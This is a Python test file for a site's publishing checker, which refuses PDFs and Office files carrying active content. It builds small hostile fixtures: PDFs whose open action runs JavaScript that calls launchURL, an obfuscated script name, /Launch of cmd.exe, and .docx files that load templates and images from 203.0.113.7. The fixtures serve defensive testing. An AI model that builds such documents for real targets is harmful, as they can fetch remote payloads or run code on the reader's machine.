"""Documents in docs/ are published byte for byte, and the site's Content-Security-Policy does not
reach a PDF viewer or Word: a PDF that runs JavaScript when opened, a .docx whose attached template
Word fetches from an outside address, an Office file with macros passed check and build
(content/activecontent.py, told by clusters._pages to both)."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest
from tests.conftest import build_root
from tests.test_docs_pages import check_out, refused, site_tree  # noqa: F401

PDF_FIX = "PDF 请去掉密码保护后用“打印为 PDF”重新生成，或另存为 PDF/A（不含脚本和附件）"
OFFICE_FIX = "Office 文件请在 Word、Excel 或 WPS 里另存为 .docx、.xlsx 或 .pptx（不带宏的格式），并删去宏、控件和外部模板或链接"
LEAD = "下载的人打开它时可能运行代码或访问外部网址（网站的安全设置管不到 PDF 阅读器和 Office 软件），已拒绝发布。"
ADMIN = "。确实需要发布的，请找网站管理员"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.4\n" + b"\n".join(objects) + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def zipped(members: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx(rels: dict[str, str], **more: bytes) -> bytes:
    """A .docx whose parts' relationships are `rels` (part -> <Relationship .../> elements)."""
    members = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document><w:t>通知</w:t></w:document>", **more}
    for part, elements in rels.items():
        folder, name = part.rsplit("/", 1)
        members[f"{folder}/_rels/{name}.rels"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{elements}</Relationships>')
    return zipped(members)


def relationship(kind: str, target: str) -> str:
    return f'<Relationship Id="rId9" Type="{REL}{kind}" Target="{target}" TargetMode="External"/>'


def object_stream(*objects: bytes) -> bytes:
    """Objects 1, 2, … packed in a FlateDecode object stream (PDF 1.5), as object 5."""
    header, body = b"", b""
    for number, text in enumerate(objects, 1):
        header, body = header + b"%d %d " % (number, len(body)), body + text + b" "
    packed = zlib.compress(header + body)
    return (b"5 0 obj<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n" % (len(objects), len(header), len(packed))
            + packed + b"\nendstream\nendobj")


ON_OPEN = b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);app.launchURL('https://example.com/x'))>>>>endobj"
TEMPLATE = docx({"word/settings.xml": relationship("attachedTemplate", "http://203.0.113.7/template.dotm")})
PACKED = object_stream(b"<< /Type /Catalog /OpenAction 2 0 R >>", b"<< /S /JavaScript /JS (app.alert(1)) >>")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def ole_with(name: str, at: int = 1024) -> bytes:
    """An old Office file (OLE) whose directory has an entry `name` at `at`."""
    data = bytearray(OLE + b"\0" * 2040)
    entry = name.encode("utf-16-le") + b"\0\0"
    data[at:at + len(entry)] = entry
    data[at + 64], data[at + 66] = len(entry), 2
    return bytes(data)


HOSTILE = {  # file -> what the message says was found, and the fix it gives
    "on-open.pdf": ("JavaScript 脚本", PDF_FIX),
    "object-stream.pdf": ("JavaScript 脚本", PDF_FIX),
    "escaped.pdf": ("JavaScript 脚本", PDF_FIX),
    "launch.pdf": ("启动程序或打开其他文件的动作（/Launch）", PDF_FIX),
    "attached.pdf": ("夹带的附件文件", PDF_FIX),
    "form.pdf": ("把表单提交到网址的动作（/SubmitForm）", PDF_FIX),
    "opens-address.pdf": ("打开文件时自动访问外部网址或文件的动作", PDF_FIX),
    "template.docx": ("打开时从外部地址加载的模板（http://203.0.113.7/template.dotm）", OFFICE_FIX),
    "network-picture.docx": ("打开时从外部地址加载的图片（\\\\203.0.113.7\\s\\a.png）", OFFICE_FIX),
    "frame.docx": ("打开时从外部地址加载的网页框架（https://example.com/f）", OFFICE_FIX),
    "renamed-macros.docx": ("宏（VBA 代码）", OFFICE_FIX),
    "macros.docm": ("启用宏的文件格式 .docm；宏（VBA 代码）", OFFICE_FIX),
    "macros.doc": ("宏（VBA 代码）", OFFICE_FIX),
    "macros.xls": ("宏（VBA 代码）", OFFICE_FIX),
    "in-a-bundle.zip": ("打开时从外部地址加载的模板（http://203.0.113.7/template.dotm）", OFFICE_FIX),
}


def hostile_files() -> dict[str, bytes]:
    return {
        "on-open.pdf": pdf(ON_OPEN),
        "object-stream.pdf": pdf(PACKED),
        "escaped.pdf": pdf(b"1 0 obj<</Type/Catalog/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>>>endobj"),
        "launch.pdf": pdf(b"1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj"),
        "attached.pdf": pdf(b"1 0 obj<</Type/Catalog/Names<</EmbeddedFiles 4 0 R>>>>endobj"),
        "form.pdf": pdf(b"4 0 obj<</Type/Annot/A<</S/SubmitForm/F(https://example.com/)>>>>endobj"),
        "opens-address.pdf": pdf(b"1 0 obj<</Type/Catalog/OpenAction 7 0 R>>endobj", b"7 0 obj<</S/URI/URI(https://example.com/t)>>endobj"),
        "template.docx": TEMPLATE,
        "network-picture.docx": docx({"word/document.xml": relationship("image", "\\\\203.0.113.7\\s\\a.png")}),
        "frame.docx": docx({"word/webSettings.xml": relationship("frame", "https://example.com/f")}),
        "renamed-macros.docx": docx({}, **{"word/vbaProject.bin": OLE}),
        "macros.docm": docx({}, **{"word/vbaProject.bin": OLE}),
        "macros.doc": ole_with("Macros"),
        "macros.xls": ole_with("_VBA_PROJECT_CUR", 1536),
        "in-a-bundle.zip": zipped({"材料/通知.docx": TEMPLATE}),
    }


def clean_files() -> dict[str, bytes]:
    """Documents as Word, WPS and a PDF printer make them: links a reader clicks, a page to open at,
    the local template Word names in many a file; and text that only talks of script."""
    content = zlib.compress(b"BT /F1 12 Tf (/JavaScript /JS) Tj ET")
    return {
        "clean.pdf": pdf(b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>endobj",
                         b"4 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://www.gov.cn/)>>>>endobj",
                         b"6 0 obj<</Filter/FlateDecode/Length %d>>stream\n" % len(content) + content + b"\nendstream\nendobj"),
        "links.docx": docx({"word/document.xml": relationship("hyperlink", "https://www.gov.cn/"),
                            "word/settings.xml": relationship("attachedTemplate", "file:///C:\\Users\\wang\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm")}),
        "plain.doc": OLE + b"\0" * 1000 + "宏（Macros）与 _VBA_PROJECT 的说明".encode("utf-16-le") + b"\0" * 2000,  # text, no directory entry
    }


@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_document_with_script_macros_or_outside_addresses_is_refused_at_its_line_1(tmp_path, name):
    from brandsite.content import clusters

    docs = tmp_path / "docs"
    (docs / "files").mkdir(parents=True)
    (docs / "files" / name).write_bytes(hostile_files()[name])
    what, fix = HOSTILE[name]
    said = [p.tagged() for p in clusters.docs_links(docs, tmp_path)]
    assert said == [f"docs/files/{name}:1: 这个文件里发现了：{what}。{LEAD}{fix}{ADMIN}"], said


@pytest.mark.parametrize("name", list(clean_files()))
def test_ordinary_documents_pass(tmp_path, name):
    from brandsite.content import clusters

    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / name).write_bytes(clean_files()[name])
    assert clusters.docs_links(docs, tmp_path) == []


def test_the_reviews_pdf_stops_check_and_build_and_clean_documents_are_published(site_tree, caplog):  # noqa: F811
    """The review's file: docs/files/tong-zhi.pdf opening with app.alert and app.launchURL, linked
    from a page, passed check and build and was published byte for byte."""
    docs = site_tree.root / "docs"
    (docs / "files").mkdir()
    (docs / "notice.md").write_text("# 通知\n\n[下载通知](files/tong-zhi.pdf) [说明](files/links.docx) [扫描件](files/clean.pdf)\n",
                                    encoding="utf-8")
    clean = clean_files()
    for name, data in clean.items():
        (docs / "files" / name).write_bytes(data)
    (docs / "files" / "tong-zhi.pdf").write_bytes(pdf(ON_OPEN))
    refused(site_tree.root, "docs/files/tong-zhi.pdf:1: 这个文件里发现了：JavaScript 脚本。", caplog)
    (docs / "files" / "tong-zhi.pdf").unlink()
    (docs / "notice.md").write_text("# 通知\n\n[说明](files/links.docx) [扫描件](files/clean.pdf)\n", encoding="utf-8")
    out = check_out(site_tree.root)
    assert out.returncode == 0, out.stdout + out.stderr
    site = build_root(site_tree.root)
    assert (site / "files" / "links.docx").read_bytes() == clean["links.docx"]


def test_a_pdf_too_large_to_read_to_its_end_is_a_warning(tmp_path, monkeypatch):
    """Past what one check inflates (filetexts' Budget), a PDF's last streams go unread: the check
    says it could not look for script there, rather than passing it as clean."""
    from brandsite.content import activecontent, clusters, filetexts

    monkeypatch.setattr(filetexts, "_TOTAL_READ", 4 << 20)
    monkeypatch.setattr(activecontent, "_FOUND", {})
    filler = zlib.compress(b"0 0 m " * (1 << 20))  # 6 MB of drawing
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "big.pdf").write_bytes(pdf(b"6 0 obj<</Filter/FlateDecode>>stream\n" + filler + b"\nendstream\nendobj",
                                       PACKED))
    said = [(p.level, p.message) for p in clusters.docs_links(docs, tmp_path)]
    assert [level for level, _ in said] == ["warning"] and "里面有没有脚本、宏或附件没能查完" in said[0][1], said
